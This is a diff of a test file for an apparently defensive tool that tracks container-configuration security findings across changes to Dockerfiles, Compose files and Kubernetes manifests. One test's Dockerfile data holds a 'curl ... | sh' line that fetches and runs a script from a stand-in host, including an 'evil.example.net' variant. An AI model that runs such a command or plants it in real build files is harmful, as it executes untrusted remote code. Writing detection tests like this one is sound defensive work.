@@ -1,160 +1,348 @@
 import { describe, expect, test } from 'vitest';
-import { sourceFile } from '../../src/artifacts/source-file.ts';
-import type { ChangedFile } from '../../src/changes/change-set.ts';
-import { matchFindings } from '../../src/delta/match.ts';
-import type { Finding } from '../../src/findings/finding.ts';
-import { fingerprint, identityKey } from '../../src/findings/fingerprint.ts';
-import { readMarks } from '../support/marked-text.ts';
+import type { DeltaEntry } from '../../src/delta/delta.ts';
+import type { ReviewResult } from '../../src/review/result.ts';
+import { type Change, type ReviewSettings, reviewChange } from '../support/in-memory-repository.ts';
 
-interface Side {
-  readonly path: string;
-  readonly text: string;
-  readonly findings: readonly Finding[];
-}
+/** The entries of one rule as `path:line state`, with `*` for what the change brings in and `<- path` for what moved. */
+const statesOf = async (rule: string, change: Change, settings?: ReviewSettings): Promise<readonly string[]> =>
+  linesOf(rule, await reviewChange(change, settings));
 
-/** A file whose marked texts are findings of one rule; `subject` as given, `identity` when the text is not what identifies. */
-const side = (
-  path: string,
-  marked: string,
-  {
-    subject = 'stage:0',
-    identity,
-    severity = 'medium' as const,
-    suppressed = false,
-  }: {
-    readonly subject?: string;
-    readonly identity?: string;
-    readonly severity?: Finding['severity'];
-    readonly suppressed?: boolean;
-  } = {},
-): Side => {
-  const { text, ranges } = readMarks(marked);
-  const seen = new Map<string, number>();
-  const findings = ranges.map(range => {
-    const under = identity ?? text.slice(range.start, range.end);
-    const ordinal = seen.get(under) ?? 0;
-    seen.set(under, ordinal + 1);
-    return {
-      ruleId: 'test/rule',
-      messageId: 'bad',
-      message: 'Bad.',
-      severity,
-      confidence: 'high' as const,
-      location: { path, range, subject },
-      scope: { start: 0, end: text.length },
-      related: [],
-      fingerprint: fingerprint(identityKey('test/rule', subject, under), ordinal),
-      ...(suppressed && { suppression: { by: 'comment' as const } }),
-    };
-  });
-  return { path, text, findings };
-};
-
-const compare = (base: Side, head: Side, status: ChangedFile['status'] = 'modified') =>
-  matchFindings({
-    changes: {
-      base: 'b',
-      head: 'h',
-      complete: true,
-      computedContext: 3,
-      files: [{ path: head.path, status, ...(base.path !== head.path && { previousPath: base.path }) }],
-    },
-    base: base.findings,
-    head: head.findings,
-    baseFiles: new Map([[base.path, sourceFile(base.path, base.text)]]),
-    headFiles: new Map([[head.path, sourceFile(head.path, head.text)]]),
-    unreadableBase: [],
-    recount: () => 0,
+const linesOf = (rule: string, { delta, files, baseFiles }: ReviewResult): readonly string[] =>
+  delta.entries.flatMap(entry => {
+    const { location, ruleId } = (entry.head ?? entry.base) as NonNullable<DeltaEntry['head']>;
+    const line = (entry.head ? files : baseFiles).get(location.path)?.lines.line(location.range.start);
+    const marks = entry.head ? `${entry.caused ? '*' : ''}${entry.movedFrom === undefined ? '' : ` <- ${entry.movedFrom}`}` : '';
+    return ruleId === rule ? [`${location.path}:${line} ${entry.state}${marks}`] : [];
   });
 
-const states = (base: Side, head: Side, status?: ChangedFile['status']): readonly string[] =>
-  compare(base, head, status).entries.map(entry => entry.state);
+const dockerfile = (base: string, head: string): Change => ({ base: { Dockerfile: base }, head: { Dockerfile: head } });
+const compose = (base: string, head: string): Change => ({ base: { 'compose.yaml': base }, head: { 'compose.yaml': head } });
+const manifest = (base: string, head: string): Change => ({ base: { 'app.yaml': base }, head: { 'app.yaml': head } });
 
-describe('matchFindings', () => {
-  test('keeps a finding whose line moved down', () => {
-    expect(states(side('Dockerfile', 'FROM a\nRUN ⟦x⟧\n'), side('Dockerfile', 'FROM a\n\n\nENV B=1\nRUN ⟦x⟧\n'))).toEqual(['unchanged']);
+const deployment = (
+  name: string,
+  { namespace = '', container = 'app', kind = 'Deployment', more = '' }: Record<string, string> = {},
+): string => `apiVersion: apps/v1
+kind: ${kind}
+metadata:
+  name: ${name}
+${namespace === '' ? '' : `  namespace: ${namespace}\n`}spec:
+  selector: {matchLabels: {app: shop}}
+  template:
+    metadata: {labels: {app: shop}}
+    spec:
+      hostNetwork: true
+      containers:
+        - name: ${container}
+          image: ghcr.io/acme/shop:1.4.2
+          args: [--listen, ":8080"]
+          env: [{name: MODE, value: production}]
+${more}`;
+
+describe('a Dockerfile', () => {
+  const mutable = 'image/mutable-tag';
+
+  test('keeps the findings of a stage that gets a name, another place or another name', async () => {
+    const base = 'FROM golang\nRUN go build ./cmd/shop\n\nFROM scratch\nCOPY --from=0 /shop /shop\nUSER 1000\n';
+    const named = base.replace('FROM golang', 'FROM golang AS build').replace('--from=0', '--from=build');
+    expect(await statesOf(mutable, dockerfile(base, named))).toEqual(['Dockerfile:1 unchanged']);
+    const after = `FROM node:24.11.1 AS web\nRUN npm ci\n\n${named}`;
+    expect(await statesOf(mutable, dockerfile(base, after))).toEqual(['Dockerfile:4 unchanged']);
+    expect(await statesOf(mutable, dockerfile(named, named.replaceAll('build', 'compile')))).toEqual(['Dockerfile:1 unchanged']);
   });
 
-  test('reports the written one of two equal findings as new, wherever it was put', () => {
-    const base = side('Dockerfile', 'FROM a\nRUN ⟦x⟧\nRUN ok\n');
-    expect(states(base, side('Dockerfile', 'FROM a\nRUN ⟦x⟧\nRUN ok\nRUN ⟦x⟧\n'))).toEqual(['unchanged', 'new']);
-    expect(states(base, side('Dockerfile', 'FROM a\nRUN new\nRUN ⟦x⟧\nRUN ⟦x⟧\nRUN ok\n'))).toEqual(['new', 'unchanged']);
-  });
-
-  test('keeps a finding whose line was re-indented', () => {
-    expect(states(side('Dockerfile', 'RUN ⟦x  y⟧\n'), side('Dockerfile', 'RUN   ⟦x y⟧\n'))).toEqual(['unchanged']);
-  });
-
-  test('keeps a finding whose stage got a name', () => {
-    expect(states(side('Dockerfile', 'FROM a\nRUN ⟦x⟧\n'), side('Dockerfile', 'FROM a AS b\nRUN ⟦x⟧\n', { subject: 'stage:b' }))).toEqual([
-      'unchanged',
+  test('has one user, whatever its last stage is called and stands on', async () => {
+    const base = 'FROM node:24.11.1\nRUN npm ci\nCMD ["node", "a.js"]\n';
+    const head = 'FROM node:24.11.1 AS build\nRUN npm ci\n\nFROM debian:13.2\nCOPY --from=build /app /app\nCMD ["/app/run"]\n';
+    expect(await statesOf('dockerfile/root-user', dockerfile(base, head))).toEqual(['Dockerfile:4 unchanged']);
+    expect(await statesOf('dockerfile/root-user', dockerfile(base, base.replace('CMD', 'USER root\nCMD')))).toEqual([
+      'Dockerfile:3 unchanged',
     ]);
   });
 
-  test('calls a finding on a rewritten text updated, and caused', () => {
-    const delta = compare(side('Dockerfile', 'ENV ⟦KEY=old⟧\n'), side('Dockerfile', 'ENV ⟦KEY=new⟧\n'));
-    expect(delta.entries).toMatchObject([{ state: 'updated', caused: true }]);
+  test('follows an instruction to another stage, and does not take another one for it', async () => {
+    const rule = 'dockerfile/remote-script-executed';
+    const base = 'FROM debian:13.2 AS tools\nRUN curl -sSL https://get.example.com/a.sh | sh\nFROM debian:13.2\nRUN true\nUSER 1\n';
+    const moved = 'FROM debian:13.2 AS tools\nRUN true\nFROM debian:13.2\nRUN curl -sSL https://get.example.com/a.sh | sh\nUSER 1\n';
+    expect(await statesOf(rule, dockerfile(base, moved))).toEqual(['Dockerfile:4 unchanged']);
+    const other = base.replace('get.example.com/a.sh', 'evil.example.net/b.sh');
+    expect(await statesOf(rule, dockerfile(base, other))).toEqual(['Dockerfile:2 updated*']);
+    const newer = base.replace('a.sh', 'b.sh');
+    expect(await statesOf(rule, dockerfile(base, newer))).toEqual(['Dockerfile:2 updated']);
   });
 
-  test('keeps what is identified by what is absent when the text around changes', () => {
-    const identity = 'no-user';
-    expect(states(side('Dockerfile', 'FROM ⟦node:20⟧\n', { identity }), side('Dockerfile', 'FROM ⟦node:22⟧\n', { identity }))).toEqual([
-      'unchanged',
+  test('tells the written one of two equal instructions as new, wherever it was put', async () => {
+    const rule = 'dockerfile/sudo';
+    const base = 'FROM debian:13.2\nRUN sudo true\nRUN echo ok\nUSER 1\n';
+    expect(await statesOf(rule, dockerfile(base, base.replace('ok\n', 'ok\nRUN sudo true\n')))).toEqual([
+      'Dockerfile:2 unchanged',
+      'Dockerfile:4 new*',
     ]);
   });
 
-  test('follows a rename', () => {
-    const base = side('a/Dockerfile', 'FROM a\nRUN ⟦x⟧\n');
-    expect(states(base, side('b/Dockerfile', 'FROM a\nRUN ⟦x⟧\n'), 'renamed')).toEqual(['unchanged']);
-  });
-
-  test('counts a copy as new', () => {
-    const base = side('a/Dockerfile', 'FROM a\nRUN ⟦x⟧\n');
-    expect(states(base, side('b/Dockerfile', 'FROM a\nRUN ⟦x⟧\n'), 'copied')).toEqual(['new', 'absent']);
-  });
-
-  test('follows a named object to another file', () => {
-    const subject = 'Deployment/web#container:app';
-    const delta = compare(side('a.yaml', 'x: ⟦1⟧\n', { subject }), side('b.yaml', 'y: 2\nx: ⟦1⟧\n', { subject }), 'added');
-    expect(delta.entries.map(entry => entry.state)).toEqual(['unchanged']);
-  });
-
-  test('tells what is gone', () => {
-    expect(states(side('Dockerfile', 'RUN ⟦x⟧\n'), side('Dockerfile', 'RUN ok\n'))).toEqual(['absent']);
-  });
-
-  test('calls a finding updated when it got worse', () => {
-    const base = side('Dockerfile', 'RUN ⟦x⟧\n');
-    expect(states(base, side('Dockerfile', 'RUN ⟦x⟧\n', { severity: 'high' }))).toEqual(['updated']);
-    expect(states(base, side('Dockerfile', 'RUN ⟦x⟧\n', { severity: 'low' }))).toEqual(['unchanged']);
-  });
-
-  test('calls a finding updated when its suppression was taken away', () => {
-    const delta = compare(side('Dockerfile', '# ignore\nRUN ⟦x⟧\n', { suppressed: true }), side('Dockerfile', 'RUN ⟦x⟧\n'));
-    expect(delta.entries).toMatchObject([{ state: 'updated', caused: true, cause: { kind: 'deleted', line: 1, text: '# ignore' } }]);
-  });
-
-  test('names the deleted line that brought a finding on an untouched line about', () => {
-    const base = side('Dockerfile', 'FROM node:22\nRUN a\nRUN b\nUSER app\nCMD x\n', { identity: 'no-user' });
-    const head = side('Dockerfile', 'FROM ⟦node:22⟧\nRUN a\nRUN b\nCMD x\n', { identity: 'no-user' });
-    expect(compare(base, head).entries).toMatchObject([
-      { state: 'new', caused: true, inDiff: true, cause: { path: 'Dockerfile', kind: 'deleted', line: 4, text: 'USER app' } },
+  test('another image without a tag is no worse than the one before', async () => {
+    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'FROM fedora\nUSER 1\n'))).toEqual(['Dockerfile:1 updated']);
+    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'FROM ubuntu:latest\nUSER 1\n'))).toEqual([
+      'Dockerfile:1 unchanged',
+    ]);
+    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'ARG BASE=ubuntu\nFROM ${BASE}\nUSER 1\n'))).toEqual([
+      'Dockerfile:2 unchanged',
     ]);
   });
 
-  test('names no cause for a finding on a written line', () => {
-    const [entry] = compare(side('Dockerfile', 'FROM a\n'), side('Dockerfile', 'FROM a\nRUN ⟦x⟧\n')).entries;
-    expect(entry).toMatchObject({ state: 'new', inDiff: true });
-    expect(entry).not.toHaveProperty('cause');
+  test('another secret is as bad as a new one', async () => {
+    const env = (value: string): string => `FROM debian:13.2\nENV API_TOKEN=${value}\nUSER 1\n`;
+    expect(await statesOf('dockerfile/secret-in-env-or-arg', dockerfile(env('q7Rm2xV9tKp4'), env('Zc81bWq0LmNv')))).toEqual([
+      'Dockerfile:2 updated*',
+    ]);
   });
 
-  test('puts every finding of either side in exactly one entry', () => {
-    const base = side('Dockerfile', 'RUN ⟦a⟧\nRUN ⟦b⟧\nRUN ⟦c⟧\n');
-    const head = side('Dockerfile', 'RUN ⟦b⟧\nRUN ⟦d⟧\n');
-    const { entries } = compare(base, head);
-    const matched = entries.flatMap(entry => (entry.head ? [entry.head] : []));
-    expect(new Set(matched)).toEqual(new Set(head.findings));
-    expect(matched.length).toBe(head.findings.length);
-    expect(entries.flatMap(entry => (entry.base ? [entry.base] : [])).length).toBe(base.findings.length);
+  test('a base that an argument without a default decides is not fixed by that', async () => {
+    const change = dockerfile('FROM ubuntu\nUSER 1\n', 'ARG BASE\nFROM ${BASE}\nUSER 1\n');
+    expect(await statesOf(mutable, change)).toEqual(['Dockerfile:1 unknown']);
+    expect(await statesOf(mutable, dockerfile('FROM ubuntu\nUSER 1\n', 'ARG BASE=ubuntu:26.04\nFROM ${BASE}\nUSER 1\n'))).toEqual([
+      'Dockerfile:1 absent',
+    ]);
   });
+
+  test('a user that an argument without a default decides is not fixed by that', async () => {
+    const base = 'FROM debian:13.2\nUSER root\nCMD ["a"]\n';
+    expect(await statesOf('dockerfile/root-user', dockerfile(base, base.replace('USER root', 'ARG WHO\nUSER ${WHO}')))).toEqual([
+      'Dockerfile:2 unknown',
+    ]);
+    expect(await statesOf('dockerfile/root-user', dockerfile(base, base.replace('root', '1000')))).toEqual(['Dockerfile:2 absent']);
+  });
+
+  test('is moved with its folder, also where git does not see it', async () => {
+    const text = 'FROM ubuntu\nRUN apt-get update && apt-get install -y nginx=1.26\nCOPY site /srv\nUSER 1\n';
+    const change = { base: { 'web/Dockerfile': text }, head: { 'site/Dockerfile': text.replace('1.26', '1.28') } };
+    expect(await statesOf(mutable, change)).toEqual(['site/Dockerfile:1 moved <- web/Dockerfile']);
+    expect(await statesOf(mutable, { ...change, renames: { 'web/Dockerfile': 'site/Dockerfile' } })).toEqual([
+      'site/Dockerfile:1 moved <- web/Dockerfile',
+    ]);
+  });
+
+  test('under another name in its folder did not move', async () => {
+    const text = 'FROM ubuntu\nUSER 1\n';
+    const change = { base: { Dockerfile: text }, head: { 'app.Dockerfile': text }, renames: { Dockerfile: 'app.Dockerfile' } };
+    expect(await statesOf(mutable, change)).toEqual(['app.Dockerfile:1 unchanged']);
+  });
+
+  test('that is copied brings its findings in', async () => {
+    const text = 'FROM ubuntu\nUSER 1\n';
+    expect(await statesOf(mutable, { base: { 'a/Dockerfile': text }, head: { 'a/Dockerfile': text, 'b/Dockerfile': text } })).toEqual([
+      'b/Dockerfile:1 new*',
+    ]);
+  });
+});
+
+describe('a Compose file', () => {
+  const service = (name: string, more = ''): string =>
+    `  ${name}:\n    image: ghcr.io/acme/worker:2.1\n    command: [work, --queue, mail]\n    environment: {MODE: fast}\n${more}`;
+
+  test('keeps the findings of a service that is renamed, reordered, requoted or written in flow style', async () => {
+    const rule = 'compose/privileged-container';
+    const base = `services:\n${service('mailer', '    privileged: true\n')}${service('other').replace('mail', 'bill')}`;
+    expect(await statesOf(rule, compose(base, base.replace('mailer', 'postman')))).toEqual(['compose.yaml:6 unchanged']);
+    const reordered = `services:\n${service('other').replace('mail', 'bill')}${service('mailer', '    privileged: "true"\n')}`;
+    expect(await statesOf(rule, compose(base, reordered))).toEqual(['compose.yaml:10 unchanged']);
+    const flow = 'services:\n  mailer: {image: "ghcr.io/acme/worker:2.1", command: [work, --queue, mail], privileged: true}\n';
+    expect(await statesOf(rule, compose(base, flow))).toEqual(['compose.yaml:2 unchanged']);
+  });
+
+  test('of two services that came for one, the one that is like it has its findings', async () => {
+    const base = `services:\n${service('mailer')}`;
+    const head = `services:\n  web:\n    image: nginx:1.29.1\n    ports: ["127.0.0.1:80:80"]\n${service('postman')}`;
+    expect(await statesOf('compose/capabilities-not-dropped', compose(base, head))).toEqual([
+      'compose.yaml:2 new*',
+      'compose.yaml:5 unchanged',
+    ]);
+  });
+
+  test('another port on all interfaces is no worse than the one before, one more is new', async () => {
+    const rule = 'compose/port-published-on-all-interfaces';
+    const ports = (...all: readonly string[]): string =>
+      `services:\n${service('web', `    ports:\n${all.map(port => `      - "${port}"\n`).join('')}`)}`;
+    expect(await statesOf(rule, compose(ports('5000:5000'), ports('8080:8080')))).toEqual(['compose.yaml:7 updated']);
+    expect(await statesOf(rule, compose(ports('5000:5000'), ports('5000:5000', '8080:8080')))).toEqual([
+      'compose.yaml:7 unchanged',
+      'compose.yaml:8 new*',
+    ]);
+    expect(await statesOf(rule, compose(ports('5000:5000', '8080:8080'), ports('8080:8080', '5000:5000')))).toEqual([
+      'compose.yaml:7 unchanged',
+      'compose.yaml:8 unchanged',
+    ]);
+  });
+
+  test('a setting that a variable without a default decides is not fixed by that', async () => {
+    const base = `services:\n${service('web', '    privileged: true\n')}`;
+    const rule = 'compose/privileged-container';
+    expect(await statesOf(rule, compose(base, base.replace('true', '${PRIVILEGED}')))).toEqual(['compose.yaml:6 unknown']);
+    expect(await statesOf(rule, compose(base, base.replace('true', 'false')))).toEqual(['compose.yaml:6 absent']);
+    expect(await statesOf(rule, compose(base, base.replace('true', 'false').replace('fast', '"${MODE}"')))).toEqual([
+      'compose.yaml:6 absent',
+    ]);
+  });
+});
+
+describe('a manifest', () => {
+  const rule = 'kubernetes/host-network';
+
+  test('keeps the findings of an object and a container that are renamed, or of another kind that runs pods', async () => {
+    const base = deployment('shop');
+    expect(await statesOf(rule, manifest(base, deployment('store')))).toEqual(['app.yaml:10 unchanged']);
+    expect(await statesOf(rule, manifest(base, deployment('shop', { kind: 'StatefulSet' })))).toEqual(['app.yaml:10 unchanged']);
+    expect(await statesOf('kubernetes/writable-root-filesystem', manifest(base, deployment('shop', { container: 'server' })))).toEqual([
+      'app.yaml:12 unchanged',
+    ]);
+  });
+
+  test('one of two alike objects that goes does not take the findings of the other along', async () => {
+    const [blue, green] = [deployment('shop-blue'), deployment('shop-green')];
+    expect(await statesOf(rule, manifest(`${blue}---\n${green}`, green))).toEqual(['app.yaml:10 unchanged', 'app.yaml:10 absent']);
+    expect(await statesOf(rule, manifest(green, `${blue}---\n${green}`))).toEqual(['app.yaml:10 new*', 'app.yaml:26 unchanged']);
+  });
+
+  test('an object in another folder is moved, in another file of its folder it is not', async () => {
+    const text = deployment('shop');
+    expect(await statesOf(rule, { base: { 'base/all.yaml': text }, head: { 'prod/shop.yaml': text } })).toEqual([
+      'prod/shop.yaml:10 moved <- base/all.yaml',
+    ]);
+    expect(await statesOf(rule, { base: { 'base/all.yaml': text }, head: { 'base/shop.yaml': text } })).toEqual([
+      'base/shop.yaml:10 unchanged',
+    ]);
+  });
+
+  test('an object that is still where it was has not moved to its copy', async () => {
+    const text = deployment('shop');
+    expect(
+      await statesOf(rule, { base: { 'base/all.yaml': text }, head: { 'base/all.yaml': `${text}#\n`, 'prod/shop.yaml': text } }),
+    ).toEqual(['base/all.yaml:10 unchanged', 'prod/shop.yaml:10 new*']);
+  });
+
+  test('another namespace in the same file is a move, in another folder it is something new', async () => {
+    const [dev, prod] = [deployment('shop', { namespace: 'dev' }), deployment('shop', { namespace: 'prod' })];
+    expect(await statesOf(rule, manifest(dev, prod))).toEqual(['app.yaml:11 moved <- app.yaml (namespace dev)']);
+    expect(await statesOf(rule, manifest(deployment('shop'), prod))).toEqual(['app.yaml:11 moved <- app.yaml (no namespace)']);
+    expect(await statesOf(rule, { base: { 'dev/a.yaml': dev }, head: { 'prod/a.yaml': prod } })).toEqual([
+      'prod/a.yaml:11 new*',
+      'dev/a.yaml:11 absent',
+    ]);
+  });
+
+  test('what is worse where it moved to is brought in', async () => {
+    const adds = (...names: readonly string[]): string =>
+      deployment('shop', { more: `          securityContext: {capabilities: {add: [${names.join(', ')}]}}\n` });
+    const change = (head: string): Change => ({ base: { 'base/all.yaml': adds('NET_ADMIN') }, head: { 'prod/all.yaml': head } });
+    expect(await statesOf('kubernetes/dangerous-capability-added', change(adds('NET_ADMIN')))).toEqual([
+      'prod/all.yaml:16 moved <- base/all.yaml',
+    ]);
+    expect(await statesOf('kubernetes/dangerous-capability-added', change(adds('SYS_ADMIN')))).toEqual([
+      'prod/all.yaml:16 moved* <- base/all.yaml',
+    ]);
+  });
+
+  test('a capability less is not worse, a capability in place of another is', async () => {
+    const adds = (...names: readonly string[]): string =>
+      deployment('shop', { more: `          securityContext: {capabilities: {add: [${names.join(', ')}]}}\n` });
+    const added = 'kubernetes/dangerous-capability-added';
+    expect(await statesOf(added, manifest(adds('NET_ADMIN', 'SYS_PTRACE'), adds('NET_ADMIN')))).toEqual([
+      'app.yaml:16 unchanged',
+      'app.yaml:16 absent',
+    ]);
+    expect(await statesOf(added, manifest(adds('NET_ADMIN'), adds('SYS_ADMIN')))).toEqual(['app.yaml:16 updated*']);
+  });
+
+  test('a default that is kept and one that is written out are the same', async () => {
+    const base = deployment('shop');
+    const head = deployment('shop', { more: '          securityContext: {allowPrivilegeEscalation: true}\n' });
+    expect(await statesOf('kubernetes/privilege-escalation-allowed', manifest(base, head))).toEqual(['app.yaml:16 unchanged']);
+    expect(await statesOf('kubernetes/privilege-escalation-allowed', manifest(head, base))).toEqual(['app.yaml:12 unchanged']);
+  });
+
+  test('a suppression that is taken away brings its finding in', async () => {
+    const text = deployment('shop').replace(
+      '      hostNetwork',
+      '      # tidewaiter: ignore[kubernetes/host-network] -- needed\n      hostNetwork',
+    );
+    expect(await statesOf(rule, manifest(text, deployment('shop')))).toEqual(['app.yaml:10 updated*']);
+  });
+});
+
+describe('what can not be read', () => {
+  const rule = 'kubernetes/host-network';
+  const text = deployment('shop');
+
+  test('is not fixed, and the verdict says so', async () => {
+    const result = await reviewChange({ base: { 'app.yaml': text }, head: { 'app.yaml': `${text}\n- [` } });
+    expect(linesOf(rule, result)).toContain('app.yaml:10 unknown');
+    expect(result.considered.fixed).toEqual([]);
+    expect(result.verdict.reasons).toContainEqual(
+      expect.objectContaining({ gate: 'comparison', status: 'warned', reason: expect.stringContaining('not fixed by that') }),
+    );
+  });
+
+  test('at the base is said of each finding, and in the verdict', async () => {
+    const result = await reviewChange({ base: { 'app.yaml': 'x' }, head: { 'app.yaml': text }, unreadableAtBase: ['app.yaml'] });
+    expect(linesOf(rule, result)).toEqual(['app.yaml:10 new*']);
+    expect(result.delta.entries.every(entry => entry.head && entry.baseUnknown?.includes('could not be evaluated'))).toBe(true);
+    expect(result.verdict.reasons).toContainEqual(
+      expect.objectContaining({ gate: 'comparison', status: 'warned', reason: expect.stringContaining('may have been there before') }),
+    );
+  });
+
+  test('a file that was no container file before and held the same may have had the finding', async () => {
+    const change = { base: { 'app.yaml.example': text }, head: { 'app.yaml': text }, renames: { 'app.yaml.example': 'app.yaml' } };
+    const [entry] = (await reviewChange(change)).delta.entries;
+    expect(entry).toMatchObject({ state: 'new', baseUnknown: expect.stringContaining('not read as a container file') });
+  });
+
+  test('a file that was something else before had no finding', async () => {
+    const [entry] = (await reviewChange({ base: { 'app.yaml': 'title: Notes\n' }, head: { 'app.yaml': text } })).delta.entries;
+    expect(entry).toMatchObject({ state: 'new' });
+    expect(entry).not.toHaveProperty('baseUnknown');
+  });
+
+  test('what stood in a path that policy leaves out is brought in by whoever moves it out of there', async () => {
+    const change = { base: { 'vendor/a.yaml': text }, head: { 'deploy/a.yaml': text }, renames: { 'vendor/a.yaml': 'deploy/a.yaml' } };
+    expect(await statesOf(rule, change, { policy: { ignorePaths: ['vendor/**'] } })).toEqual(['deploy/a.yaml:10 new*']);
+  });
+
+  test('of a chart, what a template decides now is neither there nor fixed', async () => {
+    const chart = (pod: string): Record<string, string> => ({ 'Chart.yaml': 'name: shop\nversion: 1.0.0\n', 'templates/app.yaml': pod });
+    const base = deployment('shop').replace('shop\n', 'shop\n  labels: {chart: "{{ .Chart.Name }}"}\n');
+    const head = base.replace('hostNetwork: true', 'hostNetwork: {{ .Values.hostNetwork }}');
+    expect(await statesOf(rule, { base: chart(base), head: chart(head) })).toEqual(['templates/app.yaml:11 unknown']);
+    expect(await statesOf(rule, { base: chart(base), head: chart(base.replace('hostNetwork: true', 'hostNetwork: false')) })).toEqual([
+      'templates/app.yaml:11 absent',
+    ]);
+  });
+});
+
+test('every finding of either side is in exactly one entry', async () => {
+  const base = `${deployment('a')}---\n${deployment('b')}---\n${deployment('c')}`;
+  const head = `${deployment('b')}---\n${deployment('d', { namespace: 'x' })}`;
+  const [before, both, after] = await Promise.all([
+    reviewChange({ base: {}, head: { 'app.yaml': base } }),
+    reviewChange(manifest(base, head)),
+    reviewChange({ base: {}, head: { 'app.yaml': head } }),
+  ]);
+  const count = ({ delta }: ReviewResult, side: 'base' | 'head'): number => delta.entries.filter(entry => entry[side]).length;
+  expect(count(both, 'head')).toBe(count(after, 'head'));
+  expect(count(both, 'base')).toBe(count(before, 'head'));
+  expect(new Set(both.delta.entries.flatMap(({ base: was }) => was ?? [])).size).toBe(count(both, 'base'));
+});
+
+test('of something moved, policy says what it does', async () => {
+  const text = deployment('shop').replace('hostNetwork: true', 'hostPID: true');
+  const change = { base: { 'base/a.yaml': text }, head: { 'prod/a.yaml': text } };
+  const verdictBy = async (moved: 'ignore' | 'warn' | 'block'): Promise<string> =>
+    (await reviewChange(change, { policy: { moved } })).verdict.conclusion;
+  expect([await verdictBy('ignore'), await verdictBy('warn'), await verdictBy('block')]).toEqual(['pass', 'warn', 'block']);
+  const { verdict, considered } = await reviewChange(change);
+  expect(verdict.conclusion).toBe('warn');
+  expect(verdict.reasons[0]?.reason).toMatch(
+    /brings in no new finding\. It moves \d+ findings to another folder or namespace; they were there before\./u,
+  );
+  expect(considered.shown.every(({ state }) => state === 'moved')).toBe(true);
 });
